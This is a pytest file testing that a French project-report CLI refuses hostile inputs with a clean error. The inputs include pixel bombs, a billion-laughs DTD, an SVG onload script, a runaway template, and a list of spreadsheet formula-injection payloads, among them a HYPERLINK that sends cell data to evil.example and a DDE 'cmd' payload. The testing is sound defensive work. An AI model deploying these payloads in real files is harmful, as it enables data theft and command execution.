"""Hostile projects, inputs: every bomb is bounded, every broken file is a message, never a traceback.

Each case is one a review reproduced: a section that makes Pandoc exponential, a logo
of 80 000 × 80 000 pixels, a workbook declaring a billion cells or holding a DTD, damaged
and odd CSV files, a NUL in a title, a number of 5 000 digits, a template that multiplies
a string by 10¹⁰. Each ends with one line naming the file (exit 1), and nothing written;
`docs/security.md` lists the limits. Times and memory are measured by
`benchmarks/bombs.py`, not here.
"""

from __future__ import annotations

import csv
import io
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from conftest import EXAMPLES, copy_project, run_pst, words


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return copy_project(EXAMPLES / "meaux", tmp_path / "meaux")


def no_traceback(result) -> None:
    assert "Traceback" not in result.output, result.output[-3000:]


# Render ---------------------------------------------------------------------------------


def test_unmatched_brackets_render_at_once(project):
    """24 unmatched `[`: Pandoc's citation parser took minutes; citations are off."""
    (project / "sections" / "edito.md").write_text("Crochets : " + "[a " * 24 + "\n", encoding="utf-8")

    result = run_pst("render", project, "--to", "html,md,pdf", "--quiet")

    assert result.code == 0, result.output
    assert "[a [a [a" in words((project / "build" / "meaux.md").read_text(encoding="utf-8")).replace("\\", "")


def test_thousands_of_footnotes_are_refused_with_their_place(project):
    """Pandoc's time grows faster than the number of footnotes: 30 000 took a minute and a gigabyte."""
    notes = 1_500
    (project / "sections" / "edito.md").write_text(
        "# Notes\n\n" + "".join(f"Note[^{n}].\n" for n in range(notes)) + "\n" + "".join(f"[^{n}]: n\n" for n in range(notes)), encoding="utf-8"
    )

    check = run_pst("check", project)
    render = run_pst("render", project, "--to", "html", "--quiet")

    for result in (check, render):
        no_traceback(result)
        assert result.code == 1, result.output
        assert "pst.yaml:" in result.output and "plus de 1000 notes" in words(result.output).replace("1 000", "1000")
        assert f"ligne {3 + notes + 1 + 1000}" in words(result.output)
    assert not list(project.glob("build/*"))


def png_header(width: int, height: int) -> bytes:
    """A PNG whose header declares `width × height` pixels, with a tiny (truncated) image stream."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00" * 1000)) + chunk(b"IEND", b"")


@pytest.mark.parametrize(
    ("content", "words_"),
    [
        (png_header(80_000, 80_000), "pixels"),
        (b"<svg onload='alert(1)'/>", "PNG ou JPEG"),
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * (6 * 1024 * 1024), "dépasse 5 Mio"),
    ],
    ids=["pixel-bomb", "not-an-image", "too-large"],
)
def test_a_hostile_logo_is_refused_with_its_place(project, content, words_):
    (project / "images").mkdir()
    (project / "images" / "logo.png").write_bytes(content)
    pst_yaml = project / "pst.yaml"
    pst_yaml.write_text(pst_yaml.read_text(encoding="utf-8") + "logo: images/logo.png\n", encoding="utf-8")

    result = run_pst("render", project, "--to", "pdf,html", "--quiet")

    no_traceback(result)
    assert result.code == 1
    assert "pst.yaml:" in result.output and words_ in result.output
    assert not list(project.glob("build/*"))


def test_a_latin1_section_is_refused_with_its_place(project):
    section = project / "sections" / "edito.md"
    section.write_bytes(section.read_text(encoding="utf-8").encode("latin-1", errors="replace"))

    result = run_pst("render", project, "--to", "html", "--quiet")

    no_traceback(result)
    assert result.code == 1 and "pst.yaml:" in result.output and "UTF-8" in result.output


def test_a_nul_in_a_title_is_refused_with_its_place(project):
    pst_yaml = project / "pst.yaml"
    pst_yaml.write_text(pst_yaml.read_text(encoding="utf-8").replace("\ntitle: Projet social", '\ntitle: "Projet\\0 social', 1).replace("2025-2028\nsubtitle", '2025-2028"\nsubtitle', 1), encoding="utf-8")

    check = run_pst("check", project)
    render = run_pst("render", project, "--to", "html,pdf", "--quiet")

    for result in (check, render):
        no_traceback(result)
        assert result.code == 1 and "pst.yaml:8:" in result.output, result.output
        assert "caractère de contrôle" in result.output


def test_dollars_in_a_label_reach_the_figures_as_text(project):
    """`$$` in a vote option (a chart label): matplotlib's mathtext would raise; labels are literal."""
    workshop = project / "workshops" / "2024-06-18-forum-enjeux.yaml"
    workshop.write_text(workshop.read_text(encoding="utf-8").replace("label: Rompre l'isolement", "label: $$ Rompre $\\frac{$ l'isolement", 1), encoding="utf-8")

    render = run_pst("render", project, "--to", "html", "--quiet")
    minutes = run_pst("minutes", "2024-06-18-forum-enjeux", project, "--to", "md")

    for result in (render, minutes):
        no_traceback(result)
        assert result.code == 0, result.output


def test_a_template_multiplying_a_string_is_stopped(project):
    (project / "templates" / "chapters").mkdir(parents=True)
    (project / "templates" / "chapters" / "synthesis.md.j2").write_text("# Synthèse\n\n{{ 'x' * 10**10 }}\n", encoding="utf-8")

    result = run_pst("render", project, "--to", "md", "--quiet")

    no_traceback(result)
    assert result.code == 1
    assert "synthesis.md.j2:3" in result.err
    assert not list(project.glob("build/*"))


# Format ---------------------------------------------------------------------------------


def test_fmt_on_a_five_thousand_digit_number(project):
    path = project / "evaluation" / "measurements.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace("value: ", "value: " + "9" * 5000, 1), encoding="utf-8")
    before = path.read_bytes()

    check = run_pst("check", project)
    fmt = run_pst("fmt", project)

    for result in (check, fmt):
        no_traceback(result)
        assert result.code == 1 and "evaluation/measurements.yaml:" in result.output, result.output
    assert path.read_bytes() == before


# Import ---------------------------------------------------------------------------------


def exported(project: Path, tmp_path: Path, suffix: str) -> Path:
    target = tmp_path / f"suivi.{suffix}"
    assert run_pst("export", project, "--to", suffix, "-o", target).code == 0
    return target


def rewrite_member(path: Path, member: str, change) -> None:
    """Rewrite one member of a workbook (a zip archive), keeping the others."""
    with zipfile.ZipFile(path) as archive:
        items = [(info, archive.read(info)) for info in archive.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in items:
            archive.writestr(info.filename, change(data) if info.filename == member else data)


def import_refused(project: Path, sheet: Path, *expected: str, code: int = 1) -> None:
    """Refused with one line naming the file: exit 1 for a limit or a crafted file, 2 for a damaged one."""
    measurements = project / "evaluation" / "measurements.yaml"
    before = measurements.read_bytes()
    result = run_pst("import", "measurements", sheet, project)
    no_traceback(result)
    assert result.code == code, result.output
    assert sheet.name in result.err, result.err
    for text in expected:
        assert text in result.err, result.err
    assert measurements.read_bytes() == before


def test_a_workbook_declaring_a_billion_cells(project, tmp_path):
    sheet = exported(project, tmp_path, "xlsx")
    rewrite_member(sheet, "xl/worksheets/sheet1.xml", lambda data: data.replace(b'<dimension ref="A1:', b'<dimension ref="A1:XFD1048576"/><x a="', 1))

    result = run_pst("import", "measurements", sheet, project, "--dry-run")

    no_traceback(result)
    assert result.code == 0, result.output  # the real shape is read, not the declared one


def test_a_workbook_with_a_dtd_is_refused(project, tmp_path):
    sheet = exported(project, tmp_path, "xlsx")
    laughs = b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
    rewrite_member(sheet, "xl/worksheets/sheet1.xml", lambda data: laughs + data.split(b"?>", 1)[-1].replace(b"<v>", b"<v>&lol2;", 1))

    import_refused(project, sheet)


def test_a_truncated_workbook_is_refused(project, tmp_path):
    sheet = exported(project, tmp_path, "xlsx")
    sheet.write_bytes(sheet.read_bytes()[: sheet.stat().st_size // 2])

    import_refused(project, sheet, "classeur", code=2)


def test_a_workbook_of_charts_only_is_refused(project, tmp_path):
    sheet = exported(project, tmp_path, "xlsx")
    rewrite_member(sheet, "xl/workbook.xml", lambda data: data.replace(b'r:id="rId1"', b'r:id="rIdMissing"', 1))

    import_refused(project, sheet, code=2)


def test_a_workbook_too_large_is_refused_without_reading_it(project, tmp_path):
    sheet = tmp_path / "enorme.xlsx"
    with zipfile.ZipFile(sheet, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("padding.bin", b"\x00" * (11 * 1024 * 1024))

    import_refused(project, sheet, "10 Mio")


def test_a_stale_dimension_drops_no_row(project, tmp_path):
    """A sheet whose declared dimension says A1:B2 but that holds every row: every value is read."""
    sheet = exported(project, tmp_path, "xlsx")
    from openpyxl import load_workbook

    book = load_workbook(sheet)
    book.active["M2"] = 1234
    last = book.active.max_row
    book.active[f"M{last}"] = 4321
    book.save(sheet)
    rewrite_member(sheet, "xl/worksheets/sheet1.xml", lambda data: __import__("re").sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:B2"', data, count=1))

    result = run_pst("import", "measurements", sheet, project, "--dry-run")

    assert result.code == 0, result.output
    assert "1234" in result.out and "4321" in result.out


def test_a_deleted_column_loses_no_period(project, tmp_path):
    """The « objectif » column deleted: the periods move left, and are still read as periods."""
    sheet = exported(project, tmp_path, "csv")
    rows = list(csv.reader(io.StringIO(sheet.read_text(encoding="utf-8-sig")), delimiter=";"))
    for row in rows:
        del row[3]
    rows[1][11] = "777"  # the first period, now in column L
    stream = io.StringIO()
    csv.writer(stream, delimiter=";").writerows(rows)
    sheet.write_text(stream.getvalue(), encoding="utf-8")

    result = run_pst("import", "measurements", sheet, project, "--dry-run")

    assert result.code == 0, result.output
    assert "777" in result.out


@pytest.mark.parametrize(
    ("name", "transform", "expected"),
    [
        ("cellule-geante.csv", lambda text: text.replace("I-A1.OG1-1", "I-A1.OG1-1" + "x" * 140_000, 1), "131"),
        ("guillemet.csv", lambda text: text.replace("\nI-A1.OG1-2", '\n"I-A1.OG1-2', 1), "guillemet"),
    ],
    ids=["cell-over-131072", "unclosed-quote"],
)
def test_a_broken_csv_is_refused_with_its_line(project, tmp_path, name, transform, expected):
    sheet = exported(project, tmp_path, "csv")
    broken = tmp_path / name
    text = sheet.read_text(encoding="utf-8-sig")
    assert transform(text) != text
    broken.write_text(transform(text), encoding="utf-8")

    import_refused(project, broken, expected)


@pytest.mark.parametrize(("encoding", "newline"), [("utf-16", "\r\n"), ("utf-8", "\r")], ids=["utf-16", "cr-only"])
def test_odd_csv_encodings_and_line_ends_are_read(project, tmp_path, encoding, newline):
    sheet = exported(project, tmp_path, "csv")
    text = sheet.read_text(encoding="utf-8-sig").replace("\r\n", "\n")
    lines = text.split("\n")
    cells = lines[1].split(";")
    cells[12] = "555"  # the first period
    lines[1] = ";".join(cells)
    odd = tmp_path / "odd.csv"
    odd.write_bytes(newline.join(lines).encode(encoding))

    result = run_pst("import", "measurements", odd, project, "--dry-run")

    no_traceback(result)
    assert result.code == 0, result.output
    assert "555" in result.out


def test_import_into_an_empty_measurements_file(project, tmp_path):
    sheet = exported(project, tmp_path, "csv")
    (project / "evaluation" / "measurements.yaml").write_text("", encoding="utf-8")

    result = run_pst("import", "measurements", sheet, project)

    no_traceback(result)
    assert result.code == 0, result.output
    assert run_pst("check", project).code == 0


# Export ---------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1;"clic")', "+1+1", "-2+3", "@SUM(A1:A9)", "'=déjà cité", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_formula_looking_labels_are_exported_as_text_and_read_back_identical(project, tmp_path, suffix):
    axis = project / "plan" / "axes" / "1-lieu-ressource.yaml"
    import yaml

    data = yaml.safe_load(axis.read_text(encoding="utf-8"))
    labels = iter(FORMULAS)
    for general in data["general_objectives"]:
        # In the plan's order: a general objective's own indicators, then its operational objectives'.
        for indicator in general.get("indicators", []):
            indicator["label"] = next(labels, indicator["label"])
        for operational in general.get("operational_objectives", []):
            for indicator in operational.get("indicators", []):
                indicator["label"] = next(labels, indicator["label"])
    axis.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=4096), encoding="utf-8")
    assert run_pst("check", project).code == 0
    sheet = exported(project, tmp_path, suffix)

    from pst_cli.monitoring.spreadsheet import read_rows

    if suffix == "xlsx":
        from openpyxl import load_workbook

        cells = [row[1] for row in load_workbook(sheet).active.iter_rows(min_row=2)]
        assert all(cell.data_type == "s" for cell in cells)  # text, never a formula
        assert not [cell for cell in cells if cell.data_type == "f"]
    else:
        raw = [line.split(";")[1] for line in sheet.read_text(encoding="utf-8-sig").splitlines()[1:]]
        assert not [cell for cell in raw if cell.lstrip('"').startswith(("=", "+", "-", "@"))]
    _, rows = read_rows(sheet)
    assert [row[1] for row in rows[1 : 1 + len(FORMULAS)]] == FORMULAS  # byte for byte
    measurements = project / "evaluation" / "measurements.yaml"
    before = measurements.read_bytes()
    assert run_pst("import", "measurements", sheet, project).code == 0
    assert measurements.read_bytes() == before


def test_thousands_of_unknown_keys_are_counted_not_all_placed(project):
    """`pst check` placed every unknown key by a linear search: 100 000 keys took minutes."""
    pst_yaml = project / "pst.yaml"
    pst_yaml.write_text(pst_yaml.read_text(encoding="utf-8") + "".join(f"cle{i}: {i}\n" for i in range(20_000)), encoding="utf-8")

    result = run_pst("check", project, "--format", "json")

    import json

    findings = json.loads(result.out)
    assert result.code == 1 and len(findings) == 201
    [summary] = [f for f in findings if f["rule"] == "schema/too-many-errors"]
    assert "19800 autres erreurs" in words(summary["message"])
